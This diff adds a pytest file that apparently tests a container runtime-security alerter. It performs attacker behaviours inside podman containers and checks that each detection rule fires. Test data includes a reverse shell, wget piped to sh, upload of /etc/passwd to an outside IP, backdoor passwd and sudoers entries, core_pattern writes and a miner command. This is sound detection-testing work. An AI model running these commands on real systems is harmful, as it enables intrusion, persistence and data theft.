@@ -1,0 +1,261 @@
+"""The tactic rule files (services/alerter/rules/40-* ... 90-*) against real
+behaviour: probe (real BPF) -> enricher -> alerter, every behaviour performed
+for real in a podman container, the alert naming that container.
+
+Behaviours are batched: a few containers (by the flags they need) each do
+many things, run concurrently once for the module; each test then waits for
+one rule's alert for its container. Busybox runs many applets without exec
+(find, rm, mv, touch, ...), so command-line behaviours run in an inner
+`sh -c '...'` (whose argv the rules read), and name-based ones through a
+symlink to busybox with the tool's name. Syscalls busybox cannot make come
+from tests/data/coverage_actions.c (built static, mounted at /y).
+"""
+import asyncio
+import shutil
+import subprocess
+
+import pytest
+import pytest_asyncio
+
+from tests.conftest import ROOT
+from tests.test_default_rules import NO_NET, alert_for, in_container, pipe  # noqa: F401 - pipe is a fixture
+
+pytestmark = [pytest.mark.bpf, pytest.mark.podman, pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]
+
+# The enricher names a container's first processes reliably only after a moment
+# (issue 8): each batch starts with a short sleep.
+SETTLE = "sleep 1"
+
+
+def _alias(name: str) -> str:
+    return f"ln -sf /bin/busybox /tmp/{name}"
+
+
+BATCHES = {
+    # --- files, credentials, persistence, evasion (default flags) ---
+    "files": ("", [
+        SETTLE,
+        "mkdir -p /root/.ssh /root/.aws /var/run/secrets/kubernetes.io/serviceaccount /var/spool/cron/crontabs "
+        "/etc/sudoers.d /etc/systemd/system",
+        "echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa >/dev/null",
+        "echo key >> /root/.ssh/authorized_keys",
+        "echo x > /root/.aws/credentials; cat /root/.aws/credentials >/dev/null",
+        "echo t > /var/run/secrets/kubernetes.io/serviceaccount/token",
+        "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null",
+        "cat /proc/1/environ >/dev/null",
+        "dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null",
+        "head -c1 /proc/kcore >/dev/null 2>&1",
+        "cat /proc/sys/kernel/randomize_va_space >/dev/null",
+        "echo '* * * * * id' > /var/spool/cron/crontabs/root",
+        "echo id >> /root/.profile",
+        "echo /tmp/none.so > /etc/ld.so.preload; rm -f /etc/ld.so.preload",
+        "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd",
+        "echo 'evil ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/evil",
+        "echo '[Service]' > /etc/systemd/system/evil.service",
+        "echo h > /root/.ash_history; rm /root/.ash_history",
+        "mv /bin/ls /bin/ls.bak",
+        "cp /bin/busybox /tmp/.hidden; /tmp/.hidden true 2>/dev/null",
+        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern 2>/dev/null",
+        "echo /tmp/x > /sys/kernel/uevent_helper 2>/dev/null",
+        "echo 1 > /tmp/notify_on_release",
+        "echo x > /proc/1/mem 2>/dev/null",
+        "dd if=/dev/zero of=/dev/sdz count=0 2>/dev/null",
+        "true",
+    ]),
+    # --- command lines (each in its own short sh -c) and renamed tools ---
+    "commands": ("", [
+        SETTLE,
+        "sh -c 'grep -r aws_secret_access_key /etc; grep -ri password /etc' >/dev/null",
+        "sh -c 'echo ZWNobyBoaQo= | base64 -d | sh' >/dev/null",
+        "sh -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null",
+        "sh -c 'LD_PRELOAD=/tmp/evil.so true'",
+        "sh -c 'wget -qO- http://127.0.0.1:9/i.sh | sh' 2>/dev/null",
+        "sh -c 'touch -d 2020-01-01 /tmp/stamp'",
+        "sh -c 'setenforce 0' 2>/dev/null",
+        "sh -c 'xmrig -o stratum+tcp://pool.example:3333 --donate-level 1' 2>/dev/null",
+        "sh -c './deepce.sh' 2>/dev/null",
+        "sh -c 'find /bin -perm -4000' >/dev/null",
+        "sh -c 'chroot / true'",
+        "sh -c 'modprobe -a evil' 2>/dev/null",
+        "sh -c 'rm -rf /srv/ 2>/dev/null'",
+        "sh -c 'debugfs -R ls /dev/sdz' 2>/dev/null",
+        "sh -c 'dd if=/dev/zero of=/dev/sdy count=0 2>/dev/null'",
+        "sh -c 'env GLIBC_TUNABLES=glibc.malloc.mxfast=1 true'",
+        f"{_alias('xmrig')}; /tmp/xmrig 2>/dev/null",
+        f"{_alias('mimipenguin')}; /tmp/mimipenguin 2>/dev/null",
+        f"{_alias('tcpdump')}; /tmp/tcpdump -i any 2>/dev/null",
+        f"{_alias('nmap')}; /tmp/nmap -sS 10.0.0.1 2>/dev/null",
+        f"{_alias('kubectl')}; /tmp/kubectl get pods 2>/dev/null",
+        f"{_alias('ssh')}; /tmp/ssh root@10.0.0.1 2>/dev/null",
+        f"{_alias('rsync')}; /tmp/rsync -a /etc u@10.0.0.1:/x 2>/dev/null",
+        f"{_alias('sudo')}; /tmp/sudo -i 2>/dev/null",
+        "nc -l -p 4445 >/dev/null 2>&1 & L=$!; sleep 0.3; kill $L",
+        "true",
+    ]),
+    # --- connections (no network: connects fail, the attempt is the event) ---
+    "network": (NO_NET, [
+        SETTLE,
+        "nc -w 1 169.254.170.2 80 </dev/null",
+        "nc -w 1 10.96.0.1 443 </dev/null",
+        "nc -w 1 10.0.0.5 10250 </dev/null",
+        "nc -w 1 203.0.113.7 3333 </dev/null",
+        "wget -q -O /tmp/x http://203.0.113.5/x",
+        "sh -c 'wget -q --post-file=/etc/passwd http://203.0.113.5/'",
+        "sh -c 'wget -qO- https://kubernetes.default.svc/api/v1/namespaces'",
+        "true",
+    ]),
+    # --- syscalls from the helper; parents named like servers ---
+    "helper": (NO_NET, [
+        SETTLE,
+        "/y/actions ptrace-poke >/dev/null",
+        "/y/actions unix-connect /var/run/docker.sock >/dev/null",
+        "/y/actions exec-as '[kworker/0:1]' /y/actions 2>/dev/null",
+        "cp /y/actions /tmp/nginx; /tmp/nginx spawn /bin/sh -c true",
+        "/tmp/nginx spawn /usr/bin/wget -q -T 1 http://203.0.113.5/",
+        "cp /y/actions /tmp/mysqld; /tmp/mysqld spawn /bin/cat /etc/hostname >/dev/null",
+        "ln -sf /bin/busybox /tmp/ssh; /y/actions exec-as nc /tmp/ssh -w 1 203.0.113.9 443 </dev/null",
+        "mkdir -p /tmp/m; ln -sf /bin/busybox /tmp/m/cat",
+        "/y/actions exec-as nc /tmp/m/cat -w 1 203.0.113.9 80 </dev/null",
+        "true",
+    ]),
+    # --- a non-root user asking for root ---
+    "nonroot": (["--user", "65534:65534"], [
+        SETTLE,
+        "/y/actions setuid0 >/dev/null",
+        "true",
+    ]),
+}
+
+EXPECTED = [
+    # 40 credential access
+    ("files", "Read ssh information"),
+    ("files", "Read cloud or cluster credentials file"),
+    ("files", "K8s service account token read"),
+    ("files", "Read environment variable from /proc files"),
+    ("files", "Process memory read via /proc"),
+    ("files", "Read kernel memory"),
+    ("commands", "Find AWS Credentials"),
+    ("commands", "Search for passwords or secrets"),
+    ("commands", "Credential dumping tool launched"),
+    ("network", "Contact cloud metadata service (alternate address)"),
+    # 45 execution
+    ("commands", "Reverse shell command line"),
+    ("commands", "Remote script piped to shell"),
+    ("commands", "Launch Suspicious Network Tool in Container"),
+    ("commands", "Netcat listener in container"),
+    ("commands", "Kubernetes Client Tool Launched in Container"),
+    ("network", "Launch Ingress Remote File Copy Tools in Container"),
+    ("helper", "Run shell untrusted"),
+    ("helper", "Web Server Spawned Suspicious Child Process"),
+    ("helper", "DB program spawned process"),
+    # 50 persistence
+    ("files", "Schedule Cron Jobs"),
+    ("files", "Modify Shell Configuration File"),
+    ("files", "Adding ssh keys to authorized_keys"),
+    ("files", "LD_PRELOAD code injection via ld.so.preload"),
+    ("files", "Modify user accounts database"),
+    ("files", "Sudoers modification"),
+    ("files", "Systemd service created or modified"),
+    ("files", "Create files below dev"),
+    ("commands", "Library preload set on command line"),
+    ("commands", "Kernel module tool run in container"),
+    # 60 defence evasion
+    ("files", "Delete or rename shell history"),
+    ("files", "Modify binary dirs"),
+    ("files", "Container Drift Detected (open+create)"),
+    ("files", "Hidden executable created"),
+    ("files", "Executable run from a hidden path"),
+    ("commands", "Decoding Payload in Container"),
+    ("commands", "Decoded payload piped to a shell"),
+    ("commands", "Security tooling disabled"),
+    ("commands", "Timestomping in container"),
+    ("helper", "Process masquerading as kernel thread"),
+    # 70 discovery and lateral movement
+    ("files", "Kernel information read in container"),
+    ("commands", "Network scanner launched"),
+    ("commands", "Container escape or discovery toolkit launched"),
+    ("commands", "Search for setuid binaries"),
+    ("commands", "SSH client launched in container"),
+    ("network", "Contact K8S API Server From Container"),
+    ("network", "K8s API access from container command line"),
+    ("network", "Contact kubelet or etcd from container"),
+    ("helper", "Disallowed SSH Connection Non Standard Port"),
+    ("helper", "System procs network activity"),
+    # 80 exfiltration and impact
+    ("commands", "Detect crypto miners using the Stratum protocol"),
+    ("commands", "Known Cryptominer Process Executed"),
+    ("commands", "Cryptominer command-line options"),
+    ("commands", "Launch Remote File Copy Tools in Container"),
+    ("commands", "Recursive deletion of system directories"),
+    ("network", "Detect outbound connections to common miner pool ports"),
+    ("network", "Data upload with command-line HTTP client"),
+    ("commands", "Disk overwritten with dd"),
+    # 90 privilege escalation
+    ("commands", "Sudo or su run in container"),
+    ("commands", "Namespace or chroot tool launched in container"),
+    ("commands", "Debugfs Launched in Container"),
+    ("files", "Core pattern modification"),
+    ("files", "Kernel usermode helper modification"),
+    ("files", "Write to /proc/sys in container"),
+    ("files", "Cgroup notify_on_release modification"),
+    ("files", "Privileged Container Device Access"),
+    ("files", "Code injection via /proc/pid/mem"),
+    ("helper", "PTRACE code injection"),
+    ("helper", "Container runtime socket access from container"),
+    ("commands", "Potential Local Privilege Escalation via Environment Variables Misuse"),
+    ("nonroot", "Non sudo setuid"),
+]
+
+
+@pytest.fixture(scope="module")
+def helper_mount(tmp_path_factory):
+    """tests/data/coverage_actions.c built static, in a folder to mount at /y."""
+    if not shutil.which("gcc"):
+        pytest.fail("gcc is needed to build the test helper: run `make bootstrap`")
+    d = tmp_path_factory.mktemp("coverage-actions")
+    d.chmod(0o755)  # the non-root batch runs it as uid 65534
+    subprocess.run(["gcc", "-static", "-O1", "-o", str(d / "actions"), str(ROOT / "tests/data/coverage_actions.c")],
+                   check=True, capture_output=True)
+    return ["-v", f"{d}:/y:ro"]
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def batches(pipe, helper_mount):  # noqa: F811 - the imported fixture
+    """Run every batch container once, concurrently; {batch: full container id}."""
+    names = list(BATCHES)
+
+    async def one(name):
+        flags, steps = BATCHES[name]
+        extra = helper_mount if name in ("helper", "nonroot") else []
+        return await in_container("\n".join(steps), [*flags, *extra])
+    cids = await asyncio.gather(*(one(n) for n in names))
+    return dict(zip(names, cids))
+
+
+@pytest.mark.parametrize("batch,rule", EXPECTED, ids=[f"{i}-{r}" for i, (_, r) in enumerate(EXPECTED)])
+async def test_behaviour_raises_its_alert(pipe, batches, batch, rule):  # noqa: F811
+    cid = batches[batch]
+    a = await alert_for(pipe, rule, cid, timeout=30)
+    assert a["event"]["container"]["id"] == cid and cid[:12] in a["output"]
+    assert a["priority"] and any(t.startswith("mitre_") for t in a["tags"])
+
+
+async def test_ordinary_container_activity_raises_nothing(pipe):  # noqa: F811
+    """Busybox scripts of the kind images run (start-up, health checks, log
+    rotation, tar, file writes): with every default rule loaded, the only
+    alert is the sentinel that ends the script."""
+    script = "\n".join([
+        SETTLE,
+        "ls / >/dev/null; cat /etc/hostname >/dev/null; echo hi > /tmp/out; date >/dev/null",
+        "grep -q root /etc/passwd; cat /proc/self/status >/dev/null; cat /proc/meminfo >/dev/null",
+        "wget -q --spider http://127.0.0.1:9/health 2>/dev/null; nc -z 127.0.0.1 9 2>/dev/null",
+        "mkdir -p /var/log/app /srv/data; echo line >> /var/log/app/app.log",
+        "mv /var/log/app/app.log /var/log/app/app.log.1; rm -f /var/log/app/app.log.1",
+        "tar czf /tmp/etc.tgz /etc/hostname; tar xzf /tmp/etc.tgz -C /srv/data",
+        "echo 'echo ok' > /tmp/job.sh; chmod 644 /tmp/job.sh; touch /tmp/x",
+        "sleep 0.2; cat /etc/shadow >/dev/null",
+    ])
+    cid = await in_container(script, check=True)
+    await alert_for(pipe, "Read sensitive file", cid)
+    mine = pipe._by_subject["eunomia.alert.>"].matching(lambda a: (a.get("container") or {}).get("id") == cid)
+    assert [a["rule"] for a in mine] == ["Read sensitive file"], [a["output"] for a in mine]
